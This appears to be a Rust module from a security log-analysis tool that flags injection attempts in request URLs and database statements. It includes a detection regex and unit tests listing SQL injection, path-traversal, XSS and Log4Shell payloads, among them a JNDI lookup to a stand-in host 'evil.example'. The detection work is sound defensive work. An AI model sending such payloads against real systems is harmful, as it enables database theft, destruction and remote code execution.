//! Injection payloads: in request URLs (path segments and query values, decoded) and in
//! statements (the markers the statement analysis found), by the address or session
//! that sent them.

use super::detect::{actor_finding, db_actor};
use super::enrich::Links;
use super::technique as t;
use super::{Analysis, Finding};
use crate::model::{owned, Event, SourceKind};
use regex::Regex;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

/// Payloads in a decoded URL value: a quote closing a value then a test (`' OR 'x' IS
/// NOT NULL`, `") OR ("1"="1`, `'or''='`), `OR 1=1`, a quote ending the statement
/// (`admin'--`), UNION SELECT (comments between the words too), stacked statements,
/// time-based, error-based and catalog probes, file reads and writes, path traversal,
/// script tags and handlers, and Log4Shell's lookup. Word boundaries are ASCII ones,
/// which the regex engine's DFA runs on any text.
static URL_INJECTION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(?i)('|%27|"|\))\s*((?-u:\b)or(?-u:\b)|(?-u:\b)and(?-u:\b)|\|\||&&)\s*[\w'"%().-]+\s*(=|<>|!=|<|>|(?-u:\b)is\s|(?-u:\b)in\s*\(|(?-u:\b)like\s|(?-u:\b)between\s|(?-u:\b)regexp\s)"#,
        r#"|'\s*or\s*'[^']*'\s*=\s*'"#,
        r#"|(?-u:\b)or(\s|\+|%20)+(1|true)(?-u:\b)(\s|\+|%20)*((=|%3d)(\s|\+|%20)*1|--|#|$)"#,
        r#"|'\s*(--|#|;)"#,
        r#"|union(\s|\+|%20|/\*.*?\*/)+(all(\s|\+|%20|/\*.*?\*/)+)?select"#,
        r#"|;\s*(select|drop|insert|update|delete|shutdown|exec)\s"#,
        r#"|sleep\s*\(|benchmark\s*\(|waitfor\s+delay|extractvalue\s*\(|updatexml\s*\("#,
        r#"|information_schema|pg_catalog\.|load_file\s*\(|into\s+(out|dump)file"#,
        r#"|(\.\./|\.\.\\|\.\.%2f|%2e%2e)|/etc/passwd|win\.ini"#,
        r#"|<script|%3cscript|<(svg|img|iframe|body)(?-u:\b)[^>]*(?-u:\b)on\w+\s*=|javascript:"#,
        r#"|\$\{jndi:"#,
    ))
    .expect("static regex")
});

/// A URL value decoded; decoded again where the first pass leaves an escape (`%2527`,
/// sqlmap's double encoding, which slips past a filter that decodes once).
fn decode(s: &str) -> String {
    let once = crate::sql::url_decode(&s.replace('+', " ")).into_owned();
    match crate::sql::url_decode(&once) {
        std::borrow::Cow::Owned(twice) if twice != once => twice,
        _ => once,
    }
}

/// The values of a request's URL (path segments, query values) that carry an injection
/// payload, decoded: what an application that pastes values into its SQL would run.
pub(super) fn url_payloads(e: &Event) -> Vec<String> {
    let path = e.path.as_deref().unwrap_or("");
    let (path, inline) = path.split_once('?').unwrap_or((path, ""));
    let query = [inline, e.query.as_deref().unwrap_or("")];
    let values = (query.into_iter())
        .flat_map(|q| q.split('&'))
        .map(|kv| kv.split_once('=').map_or(kv, |(_, v)| v));
    (path.split('/').chain(values))
        .filter(|v| !v.is_empty())
        .map(decode)
        .filter(|v| URL_INJECTION.is_match(v))
        .collect()
}

/// Injection payloads in URLs and statements.
pub fn injection(a: &Analysis, l: &Links) -> Vec<Finding> {
    let ev = &a.ing.events;
    // actor → (events, what was seen, whether the actor is an address)
    let mut by: BTreeMap<String, (Vec<usize>, BTreeSet<String>, bool)> = BTreeMap::new();
    for (i, e) in ev.iter().enumerate() {
        match e.kind() {
            SourceKind::Gateway => {
                let url = format!(
                    "{}?{}",
                    e.path.as_deref().unwrap_or(""),
                    e.query.as_deref().unwrap_or("")
                );
                let dec = decode(&url);
                if let Some(m) = URL_INJECTION.find(&dec) {
                    if let Some(ip) = &e.client_ip {
                        let x = by.entry(ip.to_string()).or_default();
                        x.2 = true;
                        x.0.push(i);
                        x.1.insert(format!(
                            "URL payload {:?}",
                            crate::sanitize::shorten(m.as_str(), 30)
                        ));
                    }
                }
            }
            SourceKind::Db => {
                if let Some(inj) = e.sql.as_ref().and_then(|f| f.injection.clone()) {
                    // A direct session reading the catalog, or using the server's
                    // own file, program and link tools, is a client tool at work (a
                    // DBA's import or backup, or an intruder's, whose reads the export
                    // detector judges); through the application's connection it is an
                    // injected probe.
                    let tool = inj == "catalog probing" || crate::sql::server_tool(&inj);
                    if tool && l.origin(i).is_none() && !l.is_app_db(e) {
                        continue;
                    }
                    let actor = match l.origin(i).and_then(|g| owned(&ev[g].client_ip)) {
                        Some(ip) => Some((ip, true)),
                        None => db_actor(e, l),
                    };
                    let Some((actor, is_ip)) = actor else {
                        continue;
                    };
                    let x = by.entry(actor).or_default();
                    x.2 |= is_ip;
                    x.0.push(i);
                    x.1.insert(format!("statement with {inj}"));
                }
            }
            SourceKind::Push => {}
        }
    }
    by.into_iter()
        .map(|(actor, (evs, what, is_ip))| {
            let explanation = format!(
                "injection attempts {} {actor}: {} ({} events)",
                if is_ip { "from" } else { "in" },
                what.into_iter().collect::<Vec<_>>().join("; "),
                evs.len()
            );
            actor_finding(t::INJECTION, actor, is_ip, explanation, evs, ev)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn url_payloads_and_values_that_only_look_alike() {
        for hit in [
            "/api/v1/customers?id=1' OR '1'='1",
            "/api/v1/customers?email=' OR 'x' IS NOT NULL--",
            "/api/v1/customers?email=\") OR (\"1\"=\"1",
            "/api/v1/customers?id=1') OR 1 IN (1)-- -",
            "/api/v1/auth/login?user='or''='",
            "/api/v1/auth/login?user=admin'--",
            "/api/v1/menu/1 OR 1=1",
            "/api/v1/menu/1 or true--",
            "/api/v1/menu/1 UNION/**/SELECT email FROM customers",
            "/api/v1/menu/1; DROP TABLE customers",
            "/api/v1/menu/1 AND extractvalue(1, concat(0x7e, version()))",
            "/api/v1/menu/1 AND pg_sleep(5)",
            "/api/v1/menu/1;waitfor delay '0:0:5'",
            "/static/..\\..\\windows\\win.ini",
            "/search?q=<img src=x onerror=alert(1)>",
            "/search?q=${jndi:ldap://evil.example/a}",
        ] {
            assert!(URL_INJECTION.is_match(hit), "{hit}");
        }
        for benign in [
            "/api/v1/menu/items?category=drinks&sort=price",
            "/search?q=rock and roll",
            "/api/v1/customers?name=O'Brien",
            "/api/v1/customers?email=o'neil@example.com",
            "/search?q=don't or do = maybe",
            "/search?q=Tom & Jerry",
            "/api/v1/orders/8812?note=ring twice; leave at door",
            "/api/v1/menu/{itemId}",
        ] {
            assert!(!URL_INJECTION.is_match(benign), "{benign}");
        }
    }

    #[test]
    fn a_payload_encoded_twice_is_decoded_twice() {
        let mut e = Event::new(SourceKind::Gateway, "nginx-combined");
        e.path = Some("/api/v1/customers".into());
        e.query = Some("id=1%2527%2520OR%25201%253D1--&page=2".into());
        assert_eq!(url_payloads(&e), ["1' OR 1=1--"]);
        // A literal percent sign decoded once stays one.
        e.query = Some("promo=50%25%20off&q=100%25".into());
        assert!(url_payloads(&e).is_empty());
        assert_eq!(decode("50%25%20off"), "50% off");
    }
}
